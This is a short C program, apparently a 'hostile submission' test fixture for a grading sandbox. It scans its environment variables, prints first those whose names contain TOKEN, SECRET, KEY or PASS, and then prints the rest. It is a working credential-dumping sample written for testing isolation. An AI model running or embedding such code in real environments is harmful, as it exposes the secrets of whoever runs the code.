/* summary: hostile submission: hunts its environment for the instructor's tokens, then prints the rest, on one line. */
#include <stdio.h>
#include <string.h>

extern char **environ;

/* What a token hunter greps for; printed first, since the report quotes 200 characters. */
static int looks_secret(const char *e)
{
	static const char *const words[] = { "TOKEN", "SECRET", "KEY", "PASS" };
	size_t name = strcspn(e, "=");

	for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++) {
		const char *w = strstr(e, words[i]);

		if (w && (size_t)(w - e) < name)
			return 1;
	}
	return 0;
}

int main(void)
{
	int n = 0;

	printf("hostile: env-snoop: tokens:");
	for (char **e = environ; *e; e++)
		if (looks_secret(*e))
			printf(" %s;", *e), n++;
	printf(" %d found; rest:", n);
	for (char **e = environ; *e; e++)
		if (!looks_secret(*e))
			printf(" %s;", *e);
	printf("\n");
	return 1;
}
